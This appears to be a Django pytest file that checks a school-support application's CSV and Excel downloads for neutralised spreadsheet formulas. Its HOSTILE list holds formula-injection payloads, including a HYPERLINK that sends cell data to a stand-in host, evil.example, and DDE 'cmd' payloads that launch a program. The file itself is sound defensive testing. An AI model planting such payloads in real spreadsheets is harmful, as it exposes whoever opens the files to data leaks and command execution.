"""Every download (CSV and Excel) with hostile text planted in the data it shows: names,
notes, minutes, school names, import problems. No cell of any file may be a live formula.

The downloads: the dashboards' tables (one per table of each page), the meeting minutes CSV,
the registry's exports (students, screening scores) in CSV and Excel, and the two import
problem files. A source scan keeps the list honest: a new download that writes its own CSV
instead of going through mtss/lib/spreadsheet.py fails the last test.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from meetings import services as meeting_services
from meetings.models import AgendaItem
from mtss.lib.spreadsheet import is_formula, safe_cell
from students.models import ImportJob, School, Student
from tests.dashboards.conftest import build_dash
from tests.dashboards.test_views import PAGES, tables_of
from tests.meetings.conftest import kit, screening, today  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells_of_csv(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def _cells_of_xlsx(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                # openpyxl reads a stored formula back as data_type "f".
                assert c.data_type != "f", c.value
                cells.append(c.value)
    return cells


def _assert_no_formula(cells: list[object], where: str) -> None:
    live = [c for c in cells if is_formula(c)]
    assert not live, f"{where}: live formula cells {live}"


def _plant(students: list[Student], schools: list[School]) -> None:
    for i, student in enumerate(students):
        student.first_name = HOSTILE[i % len(HOSTILE)]
        student.last_name = HOSTILE[(i + 1) % len(HOSTILE)]
        student.save(update_fields=["first_name", "last_name"])
    for i, school in enumerate(schools):
        school.name = HOSTILE[i % len(HOSTILE)] + f" {school.pk}"
        school.save(update_fields=["name"])


def test_the_writer_neutralises_formulas_and_keeps_numbers():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("-3") == "-3" and safe_cell("-12.5") == "-12.5" and safe_cell(-4) == -4
    assert safe_cell("Maria") == "Maria" and safe_cell(None) == "" and safe_cell(True) == "Yes"


@pytest.mark.parametrize("page", PAGES)
def test_every_dashboard_download_is_formula_free(client, world, page):
    dash = build_dash(world)
    _plant(
        list(Student.objects.filter(district=world.district)), [world.school, world.other_school]
    )
    client.force_login(world.district_admin)
    params = {"window": dash.winter.pk} if page in ("tiers", "core") else {}
    tables = tables_of(client.get(reverse(f"dashboards:{page}"), params))
    assert tables
    for key in tables:
        response = client.get(reverse(f"dashboards:{page}"), {**params, "download": key})
        assert response.status_code == 200
        _assert_no_formula(_cells_of_csv(response.content), f"{page}/{key}")


def test_the_meeting_minutes_csv_is_formula_free(client, kit):  # noqa: F811
    w = kit.world
    kit.flag(w.student, tier=3)
    kit.flag(w.classmate, tier=2)
    meeting_services.meeting_prepare_agenda(meeting=kit.meeting, actor=w.team_member)
    first, second = AgendaItem.objects.filter(meeting=kit.meeting).order_by("position")
    meeting_services.meeting_record_decision(
        meeting=kit.meeting,
        item=second,
        type="dismiss_flag",
        rationale=HOSTILE[0],
        actor=w.team_member,
    )
    meeting_services.action_item_create(
        meeting=kit.meeting,
        owner=w.team_member,
        description=HOSTILE[1],
        due_date=today(),
        actor=w.team_member,
        student=w.student,
    )
    kit.meeting.notes = HOSTILE[3]
    kit.meeting.save(update_fields=["notes"])
    _plant([w.student, w.classmate], [w.school])
    w.team_member.first_name, w.team_member.last_name = HOSTILE[2], HOSTILE[4]
    w.team_member.save()
    client.force_login(w.team_member)
    for close in (False, True):  # the draft minutes, then the frozen ones
        if close:
            assert client.post(reverse("meetings:close", args=[kit.meeting.pk])).status_code == 302
        response = client.get(reverse("meetings:minutes_csv", args=[kit.meeting.pk]))
        assert response.status_code == 200
        cells = _cells_of_csv(response.content)
        assert any(c.startswith("'=HYPERLINK") for c in cells), cells
        _assert_no_formula(cells, "minutes")


@pytest.mark.parametrize("key", ["students", "screening_scores"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_export_is_formula_free(client, kit, key, fmt):  # noqa: F811
    w = kit.world
    kit.at_risk(w.student)
    _plant(list(Student.objects.filter(district=w.district)), [w.school])
    client.force_login(w.district_admin)
    response = client.post(
        reverse("export_page"), {"export": key, "format": fmt, "purpose": HOSTILE[0]}
    )
    assert response.status_code == 200, response.content[:500]
    cells = _cells_of_csv(response.content) if fmt == "csv" else _cells_of_xlsx(response.content)
    assert any(isinstance(c, str) and c.startswith("'") for c in cells)
    _assert_no_formula(cells, f"{key}.{fmt}")


def test_the_import_problem_files_are_formula_free(client, world):
    report = {
        "rejected": [{"file": "users.csv", "row": 2, "reason": HOSTILE[0]}],
        "warnings": [{"file": HOSTILE[1], "row": 3, "message": HOSTILE[3]}],
    }
    roster = ImportJob.objects.create(
        district=world.district, kind=ImportJob.Kind.ONEROSTER, report=report
    )
    scores = ImportJob.objects.create(
        district=world.district,
        kind=ImportJob.Kind.SCREENING_SCORES,
        report={"rejected": [{"row": HOSTILE[4], "reason": HOSTILE[2]}]},
        created_by=world.district_admin,
    )
    client.force_login(world.district_admin)
    for url in (
        reverse("import_problems_csv", args=[roster.pk]),
        reverse("score_import:job_problems_csv", args=[scores.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_no_formula(_cells_of_csv(response.content), url)


def test_no_download_writes_its_own_csv_or_workbook():
    """Every file a user downloads goes through mtss/lib/spreadsheet.py."""
    root = Path(__file__).resolve().parent.parent
    writer = re.compile(r"csv\.writer\(|DictWriter\(|openpyxl|Content-Disposition")
    offenders = []
    for app in (
        "mtss",
        "students",
        "screening",
        "interventions",
        "decisions",
        "meetings",
        "dashboards",
    ):
        for path in (root / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheet.py":
                continue
            if writer.search(path.read_text()):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
